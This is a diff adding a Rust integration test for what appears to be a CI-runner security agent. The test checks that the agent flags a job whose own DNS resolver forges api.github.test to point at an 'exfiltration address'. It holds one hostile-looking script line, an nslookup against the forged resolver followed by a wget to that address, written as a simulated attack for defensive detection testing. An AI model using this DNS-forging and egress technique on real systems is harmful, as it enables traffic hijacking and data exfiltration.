@@ -662,3 +662,57 @@ async fn a_runners_programs_detached_from_outside_are_noticed_and_put_back() {
         tokio::time::sleep(Duration::from_millis(250)).await;
     }
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_name_forged_by_a_resolver_the_pod_chose_is_not_used_and_is_reported() {
+    let world = world().await;
+    let _shared = API_OUTAGE.read().await;
+    let job = Job::new(world.node, "forge").await;
+    // The attacker's own resolver (here outside the pod; one inside it is the kernel test's
+    // case) answers api.github.test, a host every job here calls, with its exfiltration address.
+    let (resolver, exfil) = (world.node.add_address(240).unwrap(), world.node.add_address(241).unwrap());
+    let forger = Dns::start(SocketAddr::from((resolver, 53))).unwrap();
+    forger.insert("api.github.test", exfil);
+    let listener = Listener::start(SocketAddr::from((exfil, 8080))).unwrap();
+
+    // The init container resolves api.github.test through the cluster's resolver; then the job
+    // asks its own resolver and calls the address it was given.
+    let script = format!("nslookup api.github.test {resolver}; wget -q -O /dev/null http://{exfil}:8080/");
+    let name = job.start(world.node, 801, "api.github.test", &script).await;
+    job.wait_phase(world.node, &name, "Succeeded").await;
+    assert!(listener.count() >= 1, "the job reached the exfiltration address");
+
+    // The forged answer names nothing: the call is reported as a bare address, not as
+    // api.github.test; and the forging is said in a SuspiciousDNS Event on the runner pod.
+    let client = world.node.client().await;
+    let started = Instant::now();
+    let (suspicious, exfil_reported) = loop {
+        let events = Api::<Event>::namespaced(client.clone(), &job.ns).list(&Default::default()).await.unwrap().items;
+        let suspicious: Vec<&Event> = events
+            .iter()
+            .filter(|e| e.reason.as_deref() == Some("SuspiciousDNS") && regarding(e) == ("Pod".into(), name.clone()))
+            .collect();
+        let exfil_reported: Vec<String> = events
+            .iter()
+            .filter(|e| e.reason.as_deref() == Some("AnomalousEgress") && regarding(e).0 == "Pod")
+            .filter_map(|e| e.note.clone())
+            .filter(|n| n.contains(&exfil.to_string()))
+            .collect();
+        if !suspicious.is_empty() && !exfil_reported.is_empty() {
+            break (suspicious.iter().map(|e| e.note.clone().unwrap_or_default()).collect::<Vec<_>>(), exfil_reported);
+        }
+        assert!(
+            started.elapsed() < Duration::from_secs(30),
+            "no SuspiciousDNS and AnomalousEgress Events: {events:?}\n{}",
+            agent_logs(world.node)
+        );
+        tokio::time::sleep(Duration::from_millis(250)).await;
+    };
+    assert!(suspicious[0].contains("api.github.test") && suspicious[0].contains(&exfil.to_string()), "{suspicious:?}");
+    assert!(
+        exfil_reported.iter().all(|n| !n.contains("api.github.test")),
+        "the exfiltration address is judged as a bare address, not under the forged name: {exfil_reported:?}"
+    );
+    let metrics = agent_metrics(world.node).await;
+    assert!(series(&metrics, "runwarden_agent_dns_answers{result=\"contradicting\"}") >= 1.0, "{metrics}");
+}
